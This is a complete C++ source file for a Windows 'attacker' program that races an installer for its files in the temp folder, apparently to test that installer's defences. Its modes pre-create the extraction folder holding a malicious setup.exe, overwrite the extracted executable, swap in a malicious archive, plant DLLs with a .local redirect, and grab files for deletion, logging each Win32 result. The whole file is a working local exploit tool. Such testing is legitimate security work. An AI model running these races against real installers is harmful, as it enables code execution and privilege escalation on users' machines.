// An unprivileged process of the same user that races a running installer
// for its files in %TEMP%. Usage: attacker.exe <mode> <report> [<evil zip>]
//   precreate  create the extraction directory of each new archive at once,
//              holding a read-only setup.exe of our own
//   overwrite  overwrite the extracted setup.exe once it is closed
//   swap       replace the archive by <evil zip> before it is extracted
//   plant      put plant.dll (and setup.exe.local\plant.dll) beside setup.exe
//   grab       open each new archive and extraction directory for deletion,
//              as fast as it can, for as long as it exists; an open that
//              works is reported with the number of entries the directory
//              held then ("grabbed\t<name>\t<entries>")
// evil.exe and plant.dll are taken from the attacker's own folder. Every
// attempt's Win32 result goes to <report>, which starts with "ready" once
// the attacker watches. It stops when <report>.stop appears or after 60 s.
#include <windows.h>

#include <cstdio>
#include <set>
#include <string>

namespace {

FILE* report = nullptr;
std::wstring temp, own;

std::string Narrow(const std::wstring& text) {
  int size = WideCharToMultiByte(CP_UTF8, 0, text.c_str(), -1, nullptr, 0, nullptr, nullptr);
  std::string out(size > 0 ? size - 1 : 0, '\0');
  if (size > 1) WideCharToMultiByte(CP_UTF8, 0, text.c_str(), -1, &out[0], size, nullptr, nullptr);
  return out;
}

// One line per step: what, on which name, "ok" or the Win32 error.
bool Note(const char* what, const std::wstring& name, BOOL ok) {
  DWORD error = GetLastError();
  if (ok) fprintf(report, "%s\t%s\tok\n", what, Narrow(name).c_str());
  else fprintf(report, "%s\t%s\t%lu\n", what, Narrow(name).c_str(), error);
  fflush(report);
  return ok;
}

bool Exists(const std::wstring& path) { return GetFileAttributesW(path.c_str()) != INVALID_FILE_ATTRIBUTES; }

// Names in %TEMP% that match the pattern and are (or are not) directories.
std::set<std::wstring> List(const wchar_t* pattern, bool directories) {
  std::set<std::wstring> names;
  WIN32_FIND_DATAW data;
  HANDLE find = FindFirstFileW((temp + pattern).c_str(), &data);
  if (find == INVALID_HANDLE_VALUE) return names;
  do {
    if (!(data.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) == !directories) names.insert(data.cFileName);
  } while (FindNextFileW(find, &data));
  FindClose(find);
  return names;
}

std::wstring BaseOf(const std::wstring& zipName) { return zipName.substr(0, zipName.size() - 4); }

void Precreate(const std::wstring& zipName) {
  std::wstring directory = temp + BaseOf(zipName);
  if (!Note("mkdir", BaseOf(zipName), CreateDirectoryW(directory.c_str(), nullptr))) return;
  fprintf(report, "made\t%s\n", Narrow(BaseOf(zipName)).c_str());
  std::wstring setup = directory + L"\\setup.exe";
  Note("copy", setup, CopyFileW((own + L"evil.exe").c_str(), setup.c_str(), TRUE));
  Note("readonly", setup, SetFileAttributesW(setup.c_str(), FILE_ATTRIBUTE_READONLY));
}

// True once done with this directory.
bool Overwrite(const std::wstring& base, DWORD* lastError) {
  std::wstring setup = temp + base + L"\\setup.exe";
  if (!Exists(setup)) return false;
  // Opens only once the extractor has closed it (it denies all sharing).
  HANDLE file = CreateFileW(setup.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                            nullptr, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, nullptr);
  if (file == INVALID_HANDLE_VALUE) {
    if (GetLastError() != *lastError) Note("open", setup, FALSE);  // only changes, not every poll
    *lastError = GetLastError();
    return false;
  }
  HANDLE evil = CreateFileW((own + L"evil.exe").c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING,
                            FILE_ATTRIBUTE_NORMAL, nullptr);
  static char buffer[1 << 16];
  DWORD got = 0, written = 0;
  BOOL ok = evil != INVALID_HANDLE_VALUE;
  while (ok && ReadFile(evil, buffer, sizeof buffer, &got, nullptr) && got)
    ok = WriteFile(file, buffer, got, &written, nullptr) && written == got;
  ok = ok && SetEndOfFile(file);
  Note("overwrite", setup, ok);
  if (evil != INVALID_HANDLE_VALUE) CloseHandle(evil);
  CloseHandle(file);
  return true;
}

// Spins on an atomic rename of a prepared copy over the archive until it
// works or the extraction has visibly begun. True once done with it.
bool Swap(const std::wstring& zipName, const std::wstring& evilZip, bool (*stopped)()) {
  std::wstring archive = temp + zipName, prepared = temp + L"swap_" + zipName;
  if (!Note("prepare", prepared, CopyFileW(evilZip.c_str(), prepared.c_str(), FALSE))) return true;
  std::wstring setup = temp + BaseOf(zipName) + L"\\setup.exe";
  DWORD lastError = 0;
  unsigned long attempts = 0;
  for (;;) {
    ++attempts;
    if (MoveFileExW(prepared.c_str(), archive.c_str(), MOVEFILE_REPLACE_EXISTING)) {
      Note("swap", archive, TRUE);
      fprintf(report, "made\t%s\n", Narrow(zipName).c_str());
      break;
    }
    DWORD error = GetLastError();
    if (error != lastError) Note("swap", archive, FALSE);
    lastError = error;
    if ((attempts & 63) == 0 && (Exists(setup) || !Exists(archive) || stopped())) {
      DeleteFileW(prepared.c_str());
      break;
    }
  }
  fprintf(report, "attempts\t%s\t%lu\n", Narrow(zipName).c_str(), attempts);
  fflush(report);
  return true;
}

void Plant(const std::wstring& base) {
  std::wstring directory = temp + base, dll = own + L"plant.dll";
  fprintf(report, "planted\t%s\n", Narrow(base).c_str());
  Note("plant", directory + L"\\plant.dll", CopyFileW(dll.c_str(), (directory + L"\\plant.dll").c_str(), TRUE));
  std::wstring local = directory + L"\\setup.exe.local";
  if (Note("mkdir", local, CreateDirectoryW(local.c_str(), nullptr)))
    Note("plant", local + L"\\plant.dll", CopyFileW(dll.c_str(), (local + L"\\plant.dll").c_str(), TRUE));
}

// The number of entries in the directory open as `directory`; -1 for a
// file or what cannot be read.
int EntriesIn(HANDLE directory) {
  alignas(8) static unsigned char buffer[16384];
  int count = 0;
  FILE_INFO_BY_HANDLE_CLASS kind = FileFullDirectoryRestartInfo;
  while (GetFileInformationByHandleEx(directory, kind, buffer, sizeof buffer)) {
    kind = FileFullDirectoryInfo;
    for (size_t at = 0;;) {
      const FILE_FULL_DIR_INFO* entry = reinterpret_cast<const FILE_FULL_DIR_INFO*>(buffer + at);
      std::wstring name(entry->FileName, entry->FileNameLength / sizeof(wchar_t));
      if (name != L"." && name != L"..") ++count;
      if (!entry->NextEntryOffset) break;
      at += entry->NextEntryOffset;
    }
  }
  return GetLastError() == ERROR_NO_MORE_FILES ? count : -1;
}

// One try at each target; a target that is gone is dropped.
void Grab(std::set<std::wstring>& targets) {
  for (auto it = targets.begin(); it != targets.end();) {
    std::wstring path = temp + *it;
    // Listing rights too, so that what a directory held is read through the
    // very handle that got in.
    HANDLE object = CreateFileW(path.c_str(), DELETE | FILE_LIST_DIRECTORY,
                                FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                                nullptr, OPEN_EXISTING, FILE_FLAG_BACKUP_SEMANTICS | FILE_FLAG_OPEN_REPARSE_POINT,
                                nullptr);
    DWORD error = GetLastError();
    if (object != INVALID_HANDLE_VALUE) {
      fprintf(report, "grabbed\t%s\t%d\n", Narrow(*it).c_str(), EntriesIn(object));
      fflush(report);
      CloseHandle(object);
    }
    if (object == INVALID_HANDLE_VALUE && (error == ERROR_FILE_NOT_FOUND || error == ERROR_PATH_NOT_FOUND))
      it = targets.erase(it);
    else
      ++it;
  }
}

std::wstring stopPath;
bool Stopped() { return Exists(stopPath); }

}  // namespace

int wmain(int argc, wchar_t** argv) {
  if (argc < 3) return 2;
  std::wstring mode = argv[1];
  report = _wfopen(argv[2], L"wb");
  if (!report) return 2;
  stopPath = std::wstring(argv[2]) + L".stop";
  wchar_t buffer[MAX_PATH];
  GetTempPathW(MAX_PATH, buffer);
  temp = buffer;
  GetModuleFileNameW(nullptr, buffer, MAX_PATH);
  own = buffer;
  own = own.substr(0, own.find_last_of(L'\\') + 1);
  std::wstring evilZip = argc > 3 ? argv[3] : L"";
  if (mode != L"precreate" && mode != L"overwrite" && mode != L"swap" && mode != L"plant" && mode != L"grab")
    return 2;

  // Only what appears from now on is a target.
  std::set<std::wstring> seen = List(L"vexlode_*.zip", false);
  for (const std::wstring& name : List(L"vexlode_*", true)) seen.insert(name);
  std::set<std::wstring> done;
  DWORD lastError = 0;
  fprintf(report, "ready\n");
  fflush(report);

  ULONGLONG deadline = GetTickCount64() + 60000;
  std::set<std::wstring> targets;
  unsigned long tries = 0;
  while (GetTickCount64() < deadline && !Stopped()) {
    if (mode == L"grab") {
      // Looking for new names costs far more than a try: look now and then.
      if (tries++ % 16 == 0) {
        for (bool directories : {false, true}) {
          for (const std::wstring& name : List(L"vexlode_*", directories)) {
            if (!seen.insert(name).second) continue;
            targets.insert(name);
            fprintf(report, "target\t%s\n", Narrow(name).c_str());
          }
        }
      }
      Grab(targets);
      continue;
    }
    if (mode == L"precreate" || mode == L"swap") {
      for (const std::wstring& name : List(L"vexlode_*.zip", false)) {
        if (!seen.insert(name).second) continue;
        if (mode == L"precreate") Precreate(name);
        else Swap(name, evilZip, Stopped);
      }
    } else {
      for (const std::wstring& name : List(L"vexlode_*", true)) {
        if (seen.count(name) || done.count(name)) continue;
        if (mode == L"plant") {
          Plant(name);
          done.insert(name);
        } else if (Overwrite(name, &lastError)) {
          done.insert(name);
        }
      }
    }
    Sleep(1);
  }
  if (mode == L"grab") fprintf(report, "tries\t%lu\n", tries);
  fprintf(report, "end\n");
  fclose(report);
  return 0;
}
